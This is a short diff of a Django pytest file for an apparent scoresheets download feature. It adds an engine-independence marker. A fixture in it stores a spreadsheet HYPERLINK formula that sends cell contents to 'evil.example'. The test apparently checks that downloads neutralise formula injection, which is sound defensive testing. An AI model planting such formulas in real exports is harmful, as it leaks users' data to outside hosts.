@@ -23,7 +23,8 @@ from scoresheets import pdf
 
 from .book_scenario import build
 
-pytestmark = pytest.mark.django_db
+# What the downloads write from the stored names: the same on any engine (SQLite only in CI).
+pytestmark = [pytest.mark.django_db, pytest.mark.engine_independent]
 
 FORMULAS = {
     "Ann": '=HYPERLINK("http://evil.example/?"&A1,"Ann")',
